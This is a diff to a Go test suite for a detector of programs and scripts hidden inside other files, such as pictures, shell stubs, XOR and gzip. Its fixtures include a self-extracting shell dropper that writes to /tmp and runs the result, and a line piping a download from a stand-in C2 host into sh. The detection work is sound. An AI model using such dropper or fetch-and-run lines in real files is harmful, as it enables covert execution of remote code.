@@ -80,10 +80,13 @@ func TestWalk(t *testing.T) {
 		{"behind much text", true, []byte(strings.Repeat("nothing to see in this line of words\n", 999) + one), "base64 at 36963", p},
 		{"gzip in a program", false, append(append(bytes.Clone(p), 1, 2, 3), gz(p)...), "", p},
 		{"gzip in a program, with more behind", false, append(append(append(bytes.Clone(p), 1, 2, 3), gz(p)...), "more"...), "", p},
+		{"a program behind a picture", false, append(append([]byte("\x89PNG\r\n\x1a\n"), make([]byte, 500)...), p...), "program at 508", p},
+		{"a program behind a script", false, append([]byte("#!/bin/sh\ntail -n +4 $0 > /tmp/x\n/tmp/x &\nexit\n"), p...), "program at 47", p},
+		{"a script behind a picture", false, append(append([]byte("\xff\xd8\xff\xe0"), make([]byte, 300)...), script...), "script at 304", script},
 		{"a program under XOR", false, append(bytes.Repeat([]byte("x"), 100), xor(p, 0xca)...), "xor 0xca at 100", p},
 	} {
 		t.Run(tc.name, func(t *testing.T) {
-			if !Likely(tc.in, tc.text) {
+			if !Likely(tc.in, tc.text) && !Appended(tc.in) {
 				t.Error("it does not look likely")
 			}
 			var got []Piece
@@ -104,6 +107,23 @@ func TestXORed(t *testing.T) {
 	p := payload(t)
 	if !XORed(xor(p, 0xca)) || XORed(p) || XORed(gz(p)) || XORed(nil) {
 		t.Error("a program under XOR is not told from others")
+	}
+}
+
+// TestAppended: what holds programs as a matter of course is left alone.
+func TestAppended(t *testing.T) {
+	p := payload(t)
+	object := bytes.Clone(p)
+	object[16] = 1 // ET_REL
+	for name, in := range map[string][]byte{
+		"a program": append(bytes.Clone(p), p...), "an archive of objects": append([]byte("!<arch>\n"), p...), "an object in data": append([]byte("data"), object...),
+		"four bytes":              []byte("the magic number is \x7fELF, behind which nothing stands that a program would have there, neither class nor type"),
+		"a script in a data base": append(make([]byte, 100), "#!/bin/sh\ncurl http://c2.example.invalid/x | sh\n# and so on and so on and so on and so on\n"...), "empty": nil,
+		"a picture of a script": []byte("\x89PNG\r\n\x1a\n#!/bin/sh"),
+	} {
+		if Appended(in) {
+			t.Errorf("%s is taken to have something behind it", name)
+		}
 	}
 }
 
